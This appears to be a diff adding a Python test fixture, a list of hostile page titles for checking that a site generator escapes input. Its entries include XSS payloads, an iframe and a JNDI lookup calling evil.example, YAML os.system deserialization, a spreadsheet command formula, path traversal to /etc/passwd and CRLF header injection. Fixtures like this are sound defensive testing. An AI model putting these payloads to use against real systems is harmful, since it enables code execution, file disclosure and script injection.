@@ -1,0 +1,36 @@
+"""Titles that try to be something else."""
+
+from __future__ import annotations
+
+HOSTILE_TITLES = [
+    "<script>alert(1)</script> as a Title",
+    "</title><script>alert(2)</script>",
+    '"><img src=x onerror=alert(3)>',
+    "' onmouseover='alert(4)",
+    "[click me](javascript:alert(5)) Now",
+    "![picture](https://tracker.example/p.png) of Things",
+    "<iframe src=https://evil.example></iframe>",
+    "{{ config.site_name }} and {% include 'x' %}",
+    "{: onclick=alert(6) } Attributes",
+    "--8<-- '/etc/passwd'",
+    "../../../../etc/passwd and Other Paths",
+    "title: yaml: [injection] # comment",
+    "--- !!python/object/apply:os.system ['id']",
+    "]]> CDATA ends & <![CDATA[ begins",
+    "`code` *em* __strong__ ~~struck~~ and a | pipe",
+    "# 1. > - + Every Start of Line",
+    "C# and C++ in Practice #",
+    "=cmd|' /C calc'!A0 in a Spreadsheet",
+    "&lt;b&gt; &amp; &#x3c;i&#x3e; Entities",
+    "<!-- comment --> and what follows",
+    "${jndi:ldap://evil.example/a} Logging",
+    "%0d%0aSet-Cookie: x=y Headers",
+    "\\\\server\\share\\ and \\n Backslashes \\",
+    "math $x_i^2 < y$ and \\(z\\) Inline",
+    "Ünïcödé ẗïtlés 日本語 العربية עברית",
+    "👩‍🔬 Emoji Scientists 🧪",
+    "__proto__ constructor toString",
+    "con",
+    "index",
+    "日本語だけの題名",
+]
